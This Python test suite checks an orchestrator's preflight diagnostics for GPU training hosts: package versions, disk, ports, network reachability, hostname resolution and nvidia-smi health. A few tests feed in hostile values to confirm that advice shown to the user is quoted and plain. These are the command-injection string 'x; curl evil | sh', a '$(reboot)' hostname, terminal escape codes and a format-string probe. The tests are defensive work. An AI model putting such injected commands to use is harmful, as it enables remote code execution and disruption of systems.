"""Conclusions of preflight: a row of facts, and the resulting report."""

import re
import time
from collections import Counter
from collections.abc import Sequence
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from orchestrator import checks, wire
from orchestrator.checks import Evidence, HostReport, Needs, gpus
from orchestrator.checks.cluster import without
from orchestrator.events import CheckReported, Level, PairReported
from orchestrator.model import DEFAULT_WORKDIR, EnvironmentPlan, FrameworkName, Host, Role
from orchestrator.phases.preflight import needs as needs_of
from orchestrator.phases.preflight import sample
from orchestrator.render.preflight import preflight_table
from tests.golden import matches_golden
from tests.gpus import H100, RTX_2080
from tests.unit import plans

NEEDS = Needs(needed=True, legacy_keras=True)


def report(name: str = "gpu-01", **changes: Any) -> HostReport:
    """Return the report of a healthy host; `changes` replace parts of it by names like a__b for a.b."""
    number = int(name[-2:])
    host = Host(name, name, f"10.0.0.{number}", task_port=2222)
    hello = {
        "time_ns": 0,
        "state_error": None,
        "user": "train",
        "python": "3.11.2",
        "boot_id": name,
        "netns": "net:[1]",
        "state": "/var/tmp/o-1",
    }
    free = 120 * 10**9
    facts = {
        "python": {"path": "/venv/bin/python", "version": "3.11.2", "ok": True, "error": ""},
        "packages": {"tensorflow": "2.21.0", "tf-keras": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6"},
        "digest": "0",
        "r": None,
        "setup": None,
        "disk": {
            "state": free,
            "workdir": {"free": free, "path": "/home/t/o", "writable": True, "error": ""},
        },
        "gpus": [],
        "addresses": [{"name": "lo", "ip": "127.0.0.1"}, {"name": "eth0", "ip": f"10.0.0.{number}"}],
        "answers": {},
        "machine": {
            "cpus": 8,
            "memory": 64 << 30,
            "kernel": "Linux 6.1",
            "processor": "EPYC",
            "driver": "",
            "shm": 32 << 30,
            "ports": [32768, 60999],
            "limits": {},
            "logout": [],
        },
    }
    listen: dict[str, Any] = {"listening": [2222], "busy": []}
    made = HostReport(
        host,
        (2222,),
        wire.read(hello, wire.Hello, "hello"),
        wire.read(facts, wire.MachineFacts, "facts"),
        wire.read(listen, wire.Listening, "listen"),
    )
    return changed(made, **changes)


def changed(made: HostReport, **changes: Any) -> HostReport:
    """`facts__disk__state=None` replaces its facts["disk"]["state"]; `host__devices=...` a field."""
    for path, value in changes.items():
        first, *keys = path.split("__")
        part = getattr(made, first)
        if first == "host":
            part = replace(part, **{keys[0]: value})
        elif keys:
            part = wire.read(_with(msgspec.to_builtins(part), keys, value), type(part), path)
        else:
            part = value
        made = replace(made, **{first: part})
    return made


def _with(part: Any, keys: list[str], value: Any) -> Any:
    return {**part, keys[0]: _with(part[keys[0]], keys[1:], value) if keys[1:] else value}


def examined(*hosts: HostReport, needs: Needs = NEEDS, **more: Any) -> list[CheckReported]:
    return checks.examined(Evidence(hosts, needs, **more))


def of_level(results: Sequence[CheckReported], *levels: Level) -> list[tuple[str, str, str]]:
    return [(each.host, each.check, each.found) for each in results if each.level in levels]


def in_words(results: Sequence[CheckReported]) -> str:
    """Return all problems of a host or a pair as text."""
    return "\n".join(
        f"    {each.level.value} {each.host}: {each.check}: {each.found}{' (between)' * each.between}\n"
        f"        why: {each.why}\n        try: {each.hint}"
        for each in results
        if each.level is not Level.OK
    )


W, F = Level.WARN, Level.FAIL
GPUS = [{"index": i, "name": "A100", "memory": 80 << 30} for i in range(2)]
STATE_ERROR = {"kind": "state", "what": "the state folder is on NFS", "why": "no locks", "hint": ""}
LEASE = {"run": "tidy-otter", "task": "worker/0", "owner": "ann@laptop", "since": 1.0}
SMALL = 4 * 10**9
NO_HOOK = "CondaError: Run 'conda init' before 'conda activate'"
DEAD = {"path": None, "version": None, "ok": False, "error": "/x/python: No such file"}
DEBIAN = {"version": "4.2.2", "reticulate": "1.28", "jsonlite": "1.8.4", "error": ""}
WELL = {"name": "tensorflow", "version": "2.21.0", "error": ""}
ETH = {"name": "eth0", "ip": "10.0.0.1"}


def imports(*modules: dict[str, str], **fields: Any) -> wire.Imported:
    rest: dict[str, Any] = {"gpus": None, "built": "", "importing": "", "ended": "", "signal": None, **fields}
    return wire.read({"modules": list(modules), **rest}, wire.Imported, "imports")


# Reports of one host, next to a healthy one.
ALONE: list[dict[str, Any]] = [
    {"hello__python": "3.7.3"},
    {"facts__python": DEAD},
    {"facts__python": {**DEAD, "error": "ModuleNotFoundError: No module named 'encodings'"}},
    {"facts__python": {**DEAD, "error": "bash: No such file or directory"}},
    {"facts__packages": {}},
    {"facts__packages": {}, "facts__python__no_pip": True},
    {"facts__packages": {}, "facts__setup": {"status": 127, "words": "module: command not found"}},
    {"facts__python": DEAD, "facts__setup": {"status": None, "words": ""}},
    {
        "facts__packages": {},
        "facts__setup": {"status": 127, "words": "bash: Zeile 1: conda: Kommando nicht gefunden."},
    },
    {"facts__packages": {}, "facts__setup": {"status": 1, "words": NO_HOOK}},
    {"facts__packages__tf-keras": None},
    {"facts__packages__tf-keras": "2.20.1"},
    {"facts__packages__tensorflow": "2.20.0", "facts__packages__tf-keras": "2.20.0"},
    {"facts__packages__tensorflow": "2.21.1"},
    {"facts__python__version": "3.10.4"},
    {"facts__packages__numpy": "1.26.4"},
    {"facts__gpus": GPUS, "host__devices": ("0", "1"), "facts__machine__shm": 64 << 20},
    {"hello__state_error": STATE_ERROR},
    {"facts__disk__workdir__writable": False, "facts__disk__workdir__error": "Read-only file system"},
    {"facts__disk__workdir__free": 4_900_000_000},
    {"facts__disk__workdir__free": 199_000_000},
    {"facts__disk__state": SMALL},
    {"clock": 1.4},
    {"listen__busy": [{"port": 2222, "holder": "python3 pid 4242 (user bob)"}]},
    {"listen__busy": [{"port": 2222, "holder": LEASE}]},
    {"ports": (40000,)},
    {"facts__machine__logout": ["KillUserProcesses"]},
    {"facts__machine__logout": ["RemoveIPC"]},
    {"facts__machine__logout": ["KillUserProcesses", "RemoveIPC"]},
    {"facts__machine__limits": {"RLIMIT_FSIZE": 1048576000}},
    {"facts__machine__limits": {"RLIMIT_CPU": 3600, "RLIMIT_AS": 8000000000}},
    {"host__devices": ("0",)},
    {"host__devices": ("0", "3", "GPU-ab"), "facts__gpus": GPUS},
    {"facts__gpus": GPUS, "host__devices": ("0", "1"), "imported": imports(WELL, gpus=0)},
    {"imported": imports(importing="tensorflow", ended="killed by SIGILL", signal=4)},
    {"imported": imports({**WELL, "error": "ModuleNotFoundError: No module named 'absl'"})},
    {"host__address": "203.0.114.7"},
    {"facts__gpus": GPUS[:1], "facts__addresses": [ETH, {"name": "ib0", "ip": "10.1.0.1"}]},
    {"facts__r": {**DEBIAN, "version": None, "error": "No such file"}},
    {"facts__r": {**DEBIAN, "reticulate": None}},
    {"facts__r": {**DEBIAN, "jsonlite": None}, "facts__packages__numpy": "1.26.4"},
    {"facts__r": DEBIAN},
]


def test_problems_of_a_host_are_reported() -> None:
    text = ""
    for changes in ALONE:
        needs = replace(NEEDS, r="facts__r" in changes)
        results = examined(report(), report("gpu-02", **changes), report("gpu-03"), needs=needs)
        assert {each.host for each in results if each.level is not Level.OK} == {"gpu-02"}, changes
        text += f"{changes}\n{in_words(results)}\n"
    matches_golden("checks/hosts.txt", text)


FINE: list[dict[str, Any]] = [
    {"facts__packages": {"tensorflow-cpu": "2.21.0", "tf-keras": "2.21.3"}},
    {"facts__packages": {"tensorflow": "2.15.1", "keras": "2.15.0"}},  # contains Keras 2
    {"hello__python": "3.8.18"},
    {"facts__disk__state": None, "clock": -0.9},
    {"host__devices": ("0", "1"), "facts__gpus": GPUS},
    {"facts__addresses": [{"name": "", "ip": ip} for ip in ("172.17.0.4", "2a02::1", "fe80::1%e")]},
    {"host__address": "node-1.example.org"},
    {"facts__machine__ports": None, "facts__machine__shm": None, "facts__machine__limits": {"other": 1}},
]


@pytest.mark.parametrize("changes", FINE)
def test_healthy_hosts_are_not_mentioned(changes: dict[str, Any]) -> None:
    assert {one.level for one in examined(report(**changes))} == {Level.OK}


def built(name: str, toolkit: str) -> HostReport:
    return report(name, imported=imports(WELL, built=toolkit))


NO_TENSORFLOW: dict[str, Any] = {"facts__packages": {}}
HELPER = Needs(needed=True, legacy_keras=False, helpers=frozenset(["gpu-01"]))
OF_TORCH = Needs(needed=True, legacy_keras=False, framework=FrameworkName.TORCH)
FIRST = report("gpu-01", hello__state_place="1:2")
TWIN = report("gpu-02", hello__boot_id="gpu-01", hello__state_place="1:2", ports=(2223,))
CUDA, OLDER = "CUDA 12.8, NCCL 2.27.5, gloo", "CUDA 12.6, NCCL 2.26.2, gloo"
PAIR_OF_GPUS = report("gpu-01", facts__gpus=GPUS)
# Several hosts, and the needs of the job.
CLUSTERS: dict[str, tuple[tuple[HostReport, ...], Needs]] = {
    "two that are well": ((report(), report("gpu-02")), NEEDS),
    "a job that is no Python": ((report(**NO_TENSORFLOW),), Needs(needed=False, legacy_keras=False)),
    "a service that is no Python": ((report(**NO_TENSORFLOW),), HELPER),
    "a job of PyTorch": ((report(), report("gpu-02", facts__packages={"torch": "2.9.1"})), OF_TORCH),
    "another build": ((built("gpu-01", CUDA), built("gpu-02", OLDER), built("gpu-03", CUDA)), NEEDS),
    "one machine under two names": ((FIRST, TWIN), NEEDS),
    "two machines of unknown names": (tuple(changed(one, hello__boot_id="") for one in (FIRST, TWIN)), NEEDS),
    "two state folders": ((FIRST, changed(TWIN, hello__state_place="1:3")), NEEDS),
    "two machines": ((FIRST, changed(TWIN, hello__boot_id="gpu-02")), NEEDS),
    "an unknown place": ((FIRST, changed(TWIN, hello__state_place="")), NEEDS),
    "unequal GPUs": (
        (
            PAIR_OF_GPUS,
            report("gpu-02", facts__gpus=GPUS),
            report("gpu-03", facts__gpus=GPUS[:1]),
            report("cpu-04", host__role=Role.PS),
        ),
        NEEDS,
    ),
    "a GPU for each task": (
        (changed(PAIR_OF_GPUS, host__tasks=2), report("gpu-03", facts__gpus=GPUS[:1])),
        NEEDS,
    ),
}


def well(results: Sequence[CheckReported], host: str) -> list[str]:
    return [f"{check} {found}" for name, check, found in of_level(results, Level.OK) if name == host]


def test_problems_between_hosts_are_reported() -> None:
    usual = well(examined(report("gpu-01")), "gpu-01")
    text = f"usual: {', '.join(usual)}\n"
    for name, (hosts, needs) in CLUSTERS.items():
        results = examined(*hosts, needs=needs)
        text += f"{name}\n"
        for one in dict.fromkeys(each.host for each in results):
            found = well(results, one)
            changes = [f"- {each}" for each in usual if each not in found]
            changes += [f"+ {each}" for each in found if each not in usual]
            text += f"    {one} is as usual{', but ' * bool(changes)}{', '.join(changes)}\n"
        text += in_words(results) + "\n" * any(each.level is not Level.OK for each in results)
    matches_golden("checks/clusters.txt", text)


def test_only_services_that_do_not_run_python_are_helpers() -> None:
    hosts = (
        plans.host("a"),
        plans.host("b", "service", command=("redis-server",)),
        plans.host("c", "service", command=("s.py",)),
    )
    assert needs_of(plans.make(*hosts, command=("train.py",))).helpers == {"b"}


MADE = EnvironmentPlan("6bce2a2ce683ac26")


def lacking(module: str, error: str) -> wire.Imported:
    return imports({"name": module, "version": "", "error": f"ModuleNotFoundError: No module named {error}"})


def test_setup_is_suggested_for_an_environment_from_env() -> None:
    """An environment that lacks a package follows [env]: rebuilding it would not add the package."""
    needs = Needs(needed=True, legacy_keras=False, environment=MADE)
    python = f"envs/{MADE.name}/bin/python"
    own = {"host__python": f"{DEFAULT_WORKDIR}/{python}", "facts__python__path": f"/home/t/o/{python}"}
    rows: list[dict[str, Any]] = [
        {"facts__python": DEAD, "facts__packages": {}},
        {"facts__python__version": "3.12.1", "facts__packages__tensorflow": "2.22.0"},
        {"facts__packages": {}},
        {"imported": lacking("tensorflow_datasets", "'importlib_resources'")},
        {"imported": lacking("google.protobuf", "'google'")},
        {"imported": lacking("numpy", "'numpy._core'")},
    ]
    text = ""
    for changes in rows:
        hosts = (report(name, **own) for name in ("gpu-01", "gpu-03"))
        results = examined(*hosts, report("gpu-02", **own, **changes), needs=needs)
        text += f"{changes}\n{in_words(results)}\n"
    matches_golden("checks/env.txt", text)


def mesh(*hosts: str, ping: bool | None = True, **bad: str) -> list[PairReported]:
    """Return healthy pairs except `a_b="timed out"`: a cannot reach b; `a_ALL` and `ALL_b` likewise."""
    pairs = []
    for source in hosts:
        for target in hosts:
            apart = source != target
            why = bad.get(f"{source}_{target}") or (
                apart and (bad.get(f"{source}_ALL") or bad.get(f"ALL_{target}"))
            )
            address = f"10.0.0.{ord(target) - 96}:2222"
            ms = None if why else 0.3
            pairs.append(PairReported(source, target, address, not why, ms, ping if why else None, why or ""))
    return pairs


def of_pairs(pairs: list[PairReported]) -> list[CheckReported]:
    return checks.examined(Evidence([], NEEDS, pairs=pairs))


T = "timed out"

MESHES = {
    "a to b": mesh("a", "b", "c", a_b=T),
    "all to b": mesh("a", "b", "c", ALL_b="refused"),
    "c to all": mesh("a", "b", "c", "d", c_ALL="no route"),
    "d is cut off": mesh("a", "b", "c", "d", ALL_d=T, d_ALL=T, ping=False),
    "nobody reaches anybody": mesh("a", "b", "c", a_ALL=T, b_ALL=T, c_ALL=T),
    "b to itself": mesh("a", "b", "c", b_b=T),
    "a name that nobody resolves": mesh("a", a_a="does not resolve"),
    "a name": mesh("a", "b", "c", a_c="does not resolve", b_c="does not resolve"),
    "two reasons": mesh("a", "b", "c", "d", a_b="answered by something else", c_b=T),
}


def test_a_name_whose_first_address_does_not_answer_stops_only_frameworks_that_would_wait() -> None:
    pairs = mesh("a", "b", "c")
    pairs[2] = replace(pairs[2], why=T, resolved="fd00::3")  # from a to c
    for needs, level in ((NEEDS, W), (OF_TORCH, F)):
        results = checks.examined(Evidence([], needs, pairs=pairs))
        (found,) = (each for each in results if each.level is not Level.OK)
        assert (found.host, found.level) == ("c", level)
        assert found.found == "10.0.0.3:2222 leads to fd00::3 first: timed out"


def test_failing_pairs_are_attributed_to_the_host_to_fix() -> None:
    text = ""
    for name, pairs in MESHES.items():
        results = of_pairs(pairs)
        assert {each.check for each in results} == {"reach"}
        failed = {each.host for each in results if each.level is F}
        well = {each.host for each in results if each.level is Level.OK}
        assert well == {pair.target for pair in pairs} - failed
        text += f"{name}\n{in_words(results)}\n"
    matches_golden("checks/pairs.txt", text)
    assert not of_level(of_pairs(mesh("a", "b", "c")), W, F)


def test_the_largest_passing_packet_size_is_reported() -> None:
    text = ""
    for lost in ((), ("ba", "bc"), ("ab", "cb"), ("ab", "cb", "ba", "bc"), ("ba",)):
        pairs = [
            msgspec.structs.replace(pair, large=pair.source + pair.target not in lost, large_ms=0.8)
            for pair in mesh("a", "b", "c")
        ]
        results = [each for each in of_pairs(pairs) if each.check == "packets"]
        text += f"{', '.join(lost)}\n" + "".join(f"    {each.host}: {each.found}\n" for each in results)
    matches_golden("checks/packets.txt", text)


def test_other_closed_ports_are_reported_for_nccl() -> None:
    (failure,) = checks.examined(Evidence([], NEEDS, extra=mesh("a", "b", a_b=T)))
    assert (failure.host, failure.check) == ("b", "nccl")


def test_another_address_in_a_common_network_is_suggested() -> None:
    bridge = {"name": "docker0", "ip": "172.17.0.1"}
    of_one = [{"name": "wg0", "ip": "10.8.0.1"}, {"name": "ib0", "ip": "10.1.0.1"}, bridge]
    of_two = [{"name": "ib0", "ip": "10.1.0.2"}, bridge]
    one = report("gpu-01", host__address="10.8.0.1", facts__addresses=of_one)
    two = report("gpu-02", host__address="10.1.0.2", facts__addresses=of_two)
    for resolved, suggested in (("10.8.0.1", True), ("10.1.0.1", False)):
        pair = PairReported("gpu-02", "gpu-01", f"{resolved}:2222", False, None, False, "timed out", resolved)
        (failure,) = [each for each in examined(one, two, pairs=[pair]) if each.level is F]
        assert ('set `address` to "10.1.0.1", in a network of gpu-02' in failure.hint) == suggested, failure


def test_an_unreachable_address_is_replaced_by_one_in_a_common_network() -> None:
    of_one = [{"name": "eth0", "ip": "192.0.2.1"}, {"name": "ib0", "ip": "10.0.0.1"}]
    one = report("gpu-01", host__address="localhost", facts__addresses=of_one)
    pair = PairReported("gpu-02", "gpu-01", "localhost:2222", False, None, None, "refused", "127.0.0.1")
    (failure,) = [each for each in examined(one, report("gpu-02"), pairs=[pair]) if each.level is F]
    assert "such as 10.0.0.1;" in failure.hint


EVIL = "x; curl evil | sh"
MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]


@pytest.mark.parametrize(
    "changes",
    [
        {"facts__python__path": EVIL, "facts__packages": {}},
        {"hello__state_error": {"what": "x", "hint": EVIL}},
        {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": EVIL}]},
        {"facts__gpus": GPUS, "facts__addresses": [{"name": EVIL, "ip": "10.0.0.1"}, *MORE]},
    ],
)
def test_text_from_a_host_is_quoted_in_advice(changes: dict[str, Any]) -> None:
    """The user may copy the line after `try:` and run it on their own machine."""
    two = [report("gpu-01", **changes), report("gpu-02")]
    address = two[0].host.address
    pairs = [
        PairReported("gpu-02", "gpu-01", f"{address}:2222", False, None, False, "refused", address),
        PairReported("gpu-01", "gpu-02", "10.0.0.2:2222", True, 0.1, None, "", "10.0.0.2", large=False),
    ]
    results = examined(*two, pairs=pairs)
    assert of_level(results, W, F)
    hints = [each.hint for each in results if "evil" in each.hint]
    assert all("curl" not in re.sub(r"'[^']*'", "", hint) for hint in hints), hints


def test_thirty_firewalled_hosts_of_sixty_four_are_one_error() -> None:
    names = [f"gpu-{number:02}" for number in range(1, 65)]
    hosts = [Host(name, name, f"10.0.0.{number}") for number, name in enumerate(names, 1)]
    pairs = []
    for source in names:
        for host in hosts:
            why = "timed out" if host.name in names[:30] and source != host.name else ""
            address = f"{host.address}:2222"
            pairs.append(PairReported(source, host.name, address, not why, None if why else 0.2, None, why))
    checks = of_pairs(pairs)
    lines = preflight_table(checks, pairs, 80, hosts=names)
    assert len(lines) <= 25
    assert len([line for line in lines if line.startswith("error")]) == 1
    assert all(len(line) <= 80 for line in lines)
    assert without(hosts, checks, ()) == tuple(names[:30])


def test_failing_and_excluded_hosts_are_skipped() -> None:
    hosts = [Host("a", "a", "a", role=Role.CHIEF), *(Host(name, name, name) for name in "bcd")]
    full = {name: CheckReported(name, "disk", Level.FAIL, "full") for name in "abcd"}
    assert without(hosts, [CheckReported("b", "disk", Level.WARN, "little")], ()) == ()
    assert without(hosts, [full["b"]], ()) == ("b",)
    assert without(hosts, [], ("c",)) == ("c",)
    assert without(hosts, [full["b"]], ("c",)) == ("b", "c")
    assert without(hosts, [full["a"]], ()) == (), "the only chief"
    assert without(hosts, [*full.values()], ()) == ()


def test_a_host_s_name_must_resolve_to_the_address_gloo_announces() -> None:
    packages = {"jax": "0.9.0", "jaxlib": "0.9.0", "torch": "2.9.0", "numpy": "2.4.6"}
    two = [ETH, {"name": "ib0", "ip": "10.1.0.1"}, {"name": "lo", "ip": "127.0.0.1"}]
    natted = "2a02::1 STREAM n1\n10.1.0.1 STREAM\n"
    rows: dict[str, dict[str, Any]] = {
        "well": {"facts__answers__hostname": "n1\n10.0.0.1 STREAM n1\n10.0.0.1 DGRAM\n"},
        "Debian's": {"facts__answers__hostname": "n1\n127.0.1.1 STREAM n1\n127.0.1.1 DGRAM\n"},
        "with GPUs": {"facts__answers__hostname": "n1\n127.0.1.1 STREAM n1\n", "facts__gpus": GPUS},
        "unknown": {"facts__answers__hostname": "n1\n"},
        "of another machine": {"facts__answers__hostname": "n1\n10.0.0.9 STREAM n1\n"},
        "another family": {
            "facts__answers__hostname": "n1\nfd00::1 STREAM n1\n10.0.0.1 STREAM\n",
            "facts__addresses": [ETH, {"name": "eth0", "ip": "fd00::1"}],
        },
        "another network": {"facts__answers__hostname": f"n1\n{natted}", "facts__addresses": two},
        "not asked": {"facts__answers__hostname": ""},
        "hostile": {"facts__answers__hostname": "$(reboot)\n127.0.1.1"},
        "NAT": {"facts__answers__hostname": f"n1\n{natted}", "host__address": "10.7.0.1"},
        "NAT, and told": {
            "facts__answers__hostname": f"n1\n{natted}",
            "host__address": "10.7.0.1",
            "host__env": {"GLOO_SOCKET_IFNAME": "eth0"},
        },
    }
    text = ""
    for framework in (FrameworkName.JAX, FrameworkName.TORCH, FrameworkName.TENSORFLOW):
        needs = Needs(needed=False, legacy_keras=False, framework=framework)
        for name, changes in rows.items():
            two_hosts = (
                report(**changes, facts__packages=packages),
                report("gpu-02", facts__packages=packages),
            )
            results = examined(*two_hosts, needs=needs)
            mine = [one for one in results if one.check == "hostname"]
            text += f"{framework.value}, {name}: {' '.join(one.found for one in mine)}\n{in_words(mine)}\n"
        assert ("hostname" in checks.programs(framework)) == (framework is not FrameworkName.TENSORFLOW)
        alone = [report("gpu-01", **rows["Debian's"])]
        assert not any(one.check == "hostname" for one in examined(*alone, needs=needs))
    matches_golden("checks/hostname.txt", text)


@pytest.mark.parametrize("count", [129, 130, 500, 1000])
def test_a_sample_of_pairs_is_balanced_and_connects_all_hosts(count: int) -> None:
    names = [f"gpu-{number}" for number in range(count)]
    chosen = sample(names, 16, "salt")
    assert all(len(set(peers)) == 17 and name in peers for name, peers in chosen.items())
    assert set(Counter(peer for peers in chosen.values() for peer in peers).values()) == {17}
    reached, new = {names[0]}, {names[0]}
    while new:
        new = {peer for name in new for peer in chosen[name]} - reached
        reached |= new
    assert reached == set(names)
    assert sample(names, 16, "another") != chosen


# --- GPU health: recorded output of nvidia-smi, also with one field changed ---

NOW = 1_700_000_000 * 10**9
OFF = "pid=1122, GPU has fallen off the bus."


def seen(*cards: dict[str, str], **more: Any) -> dict[str, Any]:
    rows = [{"index": int(card["index"]), "name": card["name"], "fields": card} for card in cards]
    return {"gpus": rows, **more}


def at(name: str, *cards: dict[str, str], devices: tuple[str, ...] | None = None, **more: Any) -> HostReport:
    changes = {f"facts__{key}": value for key, value in seen(*cards, **more).items()}
    return report(name, hello__time_ns=NOW, host__devices=devices, **changes)


SECOND = H100 | {"index": "1", "uuid": "GPU-1", "pci.bus_id": "00000000:00:0A.0"}
KNOWN = ("index", "driver_version", "name")
_ECC = "ecc.errors.uncorrected.volatile.total"
LOST = dict.fromkeys(("temperature.gpu", "utilization.gpu", "pstate"), "[GPU requires reset]")
CARDS: dict[str, dict[str, Any]] = {
    "as recorded": {},
    "an older card, idle": {"all": (RTX_2080, RTX_2080 | {"index": "1"})},
    "a word for every value": {"card": {key: "[N/A]" for key in H100 if key not in KNOWN}},
    "another word": {"card": {key: "[Unknown Error]" for key in H100 if key not in KNOWN}},
    "lost": {"card": LOST | {"memory.used": "0"}},
    "recovery": {"card": {"gpu_recovery_action": "Reboot"}},
    "ECC": {"card": {_ECC: "3"}},
    "rows": {"card": {"remapped_rows.failure": "Yes"}},
    "pages": {"card": {"retired_pages.pending": "Yes"}},
    "heat": {"card": {"clocks_throttle_reasons.active": "0x0000000000000048", "temperature.gpu": "91"}},
    "power brake": {"card": {"clocks_throttle_reasons.active": "0x0000000000000088"}},
    "software's cap": {"card": {"clocks_throttle_reasons.active": "0x0000000000000004"}},
    "width": {"card": {"pcie.link.width.current": "4"}},
    "generation, idle": {"card": {"pcie.link.gen.current": "1"}},
    "generation, at work": {"card": {"pcie.link.gen.current": "1", "utilization.gpu": "97"}},
    "in use": {"card": {"memory.used": "40000", "users": "pid 4242 python3 (user bob)"}},
    "in use, nobody knows by whom": {"card": {"memory.used": "40000", "users": ""}},
    "both": {"all": (H100 | {_ECC: "1"}, SECOND | {_ECC: "1"})},
    "mismatch": {"all": (), "gpu_error": "Failed to initialize NVML: Driver/library version mismatch"},
    "hangs, and is needed": {"all": (), "devices": ("0",), "gpu_error": "no answer within 40 s"},
    "one is gone": {"gpu_error": "Unable to determine the device handle for GPU 0000:BA:00.0: Unknown Error"},
    "none, and none needed": {"all": (), "gpu_error": "No devices were found"},
    "Xid": {"xids": [[NOW - 9 * 10**9, "0000:00:0a", 79, OFF], [NOW, "0000:00:0a", 31, "of a program"]]},
    "Xid of long ago": {"xids": [[NOW - 10**15, "0000:00:0a", 79, OFF]]},
    "Xid of one that is not used": {"devices": ("0",), "xids": [[NOW, "0000:00:0a", 79, OFF]]},
    "bad, and not used": {"devices": ("0",), "card": {_ECC: "3"}},
    "none used": {"devices": (), "card": {_ECC: "3"}, "gpu_error": "?"},
    "another model": {"all": (H100 | {"name": "NVIDIA A100-SXM4-80GB"},) * 2},
    "another driver": {"card": {"driver_version": "535.183.01"}},
}


def test_nvidia_smi_output_is_judged() -> None:
    text = ""
    for name, row in CARDS.items():
        more = {key: value for key, value in row.items() if key not in ("card", "all")}
        cards = row.get("all", (H100, SECOND | row.get("card", {})))
        results = examined(
            at("gpu-01", H100, SECOND), at("gpu-02", *cards, **more), at("gpu-03", H100, SECOND)
        )
        mine = [one for one in results if one.host == "gpu-02" and one.check in ("health", "model", "gpu")]
        assert {one.host for one in results if one.level is not Level.OK} <= {"gpu-02"}, name
        notes = "; ".join(one.found for one in mine if one.level is Level.OK and one.check == "health")
        text += f"{name}: {notes}\n{in_words(mine)}\n"
    matches_golden("checks/gpus.txt", text)


def look(*cards: dict[str, str], **more: Any) -> wire.GpuLook:
    return wire.read(seen(*cards, **more), wire.GpuLook, "gpus")


BOTH = look(H100, SECOND)
CHANGES: list[tuple[wire.GpuLook, wire.GpuLook]] = [
    (BOTH, BOTH),
    (BOTH, look(H100, SECOND, xids=[[NOW - 4 * 10**8, "0000:00:0a", 79, OFF], [NOW, "0000:00:0a", 45, "-"]])),
    (BOTH, look(H100, xids=[[NOW + 10**8, "0000:00:0a", 79, OFF], [NOW + 10**9, "0000:00:0a", 79, OFF]])),
    (BOTH, look(H100, SECOND, xids=[[NOW - 10**12, "0000:00:0a", 79, OFF]])),  # before the attempt
    (look(H100, SECOND | {_ECC: "1"}), look(H100, SECOND | {_ECC: "1", "temperature.gpu": "88"})),
    (look(H100, SECOND | {_ECC: "1"}), look(H100, SECOND | {_ECC: "2", "memory.used": "70000"})),
    (BOTH, look(H100, SECOND | LOST)),
    (BOTH, look(gpu_error="no answer within 12 s")),
    (look(), look(H100, xids=[[NOW, "0000:01:00", 31, "MMU Fault"]])),
]


def test_changes_are_reported_with_their_time() -> None:
    text = ""
    for before, now in CHANGES:
        found = sorted(gpus.changes("gpu-03", before, now, NOW / 1e9 - 60, NOW / 1e9))
        text += "".join(f"{'broken: ' * broken}{words}\n" for _, words, broken in found) + "\n"
    matches_golden("checks/gpus_changed.txt", text)


@pytest.mark.parametrize("words", ["\x1b[2J" * 9000, "9" * 9000, "0x" + "F" * 900, "{0.__class__}", ""])
def test_hostile_values_are_plain_text(words: str) -> None:
    card = dict.fromkeys(H100, words) | {"index": "0", words: words}
    began = time.monotonic()
    results = examined(
        at("gpu-01", H100), at("gpu-02", card, gpu_error=words, xids=[[NOW, words, 79, words]])
    )
    assert time.monotonic() - began < 1
    for one in results:
        assert "\x1b" not in one.found + one.why + one.hint
        assert words == "" or words not in one.hint
